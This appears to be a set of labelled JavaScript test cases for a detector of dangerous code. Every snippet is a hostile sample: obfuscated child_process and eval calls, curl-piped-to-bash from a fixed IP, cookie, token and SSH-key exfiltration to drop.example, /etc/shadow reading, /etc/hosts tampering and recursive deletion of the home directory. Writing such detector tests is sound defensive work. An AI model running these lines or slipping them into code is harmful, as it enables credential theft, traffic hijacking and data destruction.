%% aliased twice
const a = require("child_process"), b = a, { spawn: c } = b;
c("bash", ["-c", "curl http://198.51.100.2 | bash"]);
%% class field
class X { run = require("child_process").execSync; }
new X().run("id");
%% optional chaining
require("child_process")?.exec?.("id");
%% ternary
const f = process.platform === "win32" ? null : eval;
f("1");
%% map of names
const names = { p: "child_process" };
require(names.p).exec("id");
%% buffer array
eval(Buffer.from([97, 108, 101, 114, 116, 40, 49, 41]).toString());
%% unescape
eval(unescape("%61%6c%65%72%74%28%31%29"));
%% dynamic require loop
for (const m of process.argv.slice(2)) require(m).run();
%% exfil image
new Image().src = "https://drop.example/?" + document.cookie;
fetch("https://drop.example/?k=" + encodeURIComponent(localStorage.getItem("token")));
%% overwrites hosts
const fs = require("node:fs");
fs.writeFileSync("/etc/hosts", "203.0.113.1 bank.example\n");
%% reads shadow by stream
require("fs").createReadStream("/etc/shadow").pipe(process.stdout);
%% ssh key upload
import { readFileSync } from "fs";
import https from "https";
const r = https.request("https://drop.example", { method: "PUT" });
r.end(readFileSync(`${process.env.HOME}/.ssh/id_ed25519`));
%% deletes home
import { rmSync } from "node:fs";
import { homedir } from "node:os";
rmSync(homedir(), { recursive: true, force: true });
%% shell string
const { execSync } = require("child_process");
execSync(`tar cz ~ | curl -T - https://drop.example`);
%% Function apply
Function.apply(null, ["return process.env"])();
%% timer text
setInterval("steal()", 1000);
